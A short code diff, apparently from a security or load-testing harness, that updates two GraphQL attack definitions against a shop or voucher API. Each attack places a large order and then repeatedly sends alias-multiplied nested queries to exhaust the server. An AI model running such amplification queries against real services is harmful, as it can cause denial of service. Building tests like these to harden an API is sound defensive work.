@@ -13,7 +13,7 @@ export const forbiddenFields: Attack = {
   async run(target) {
     const { orderId } = await placeLargeOrder(target);
     const query = `query ($i: [ID!]!) { n0: nodes(ids: $i) { ...F } n1: nodes(ids: $i) { ...F } }
-      fragment F on Order { products { ${aliases(20, 'redemptions { id }')} } }`;
+      fragment F on Order { products: soldVouchers { ${aliases(20, 'redemptions { nodes { id } }')} } }`;
     return sendRepeatedly(target, () => graphqlRequest(query, { i: ids(orderId) }));
   },
 };
@@ -25,7 +25,7 @@ export const repeatedEvents: Attack = {
   async run(target) {
     const { eventId } = await placeLargeOrder(target);
     const query = `query ($i: [ID!]!) { ${aliases(15, 'nodes(ids: $i) { ...F }')} }
-      fragment F on OrderCreatedEvent { orderSnapshot { products { databaseId } } }`;
+      fragment F on OrderCreatedEvent { orderSnapshot { products: soldVouchers { databaseId } } }`;
     return sendRepeatedly(target, () => graphqlRequest(query, { i: ids(eventId) }));
   },
 };
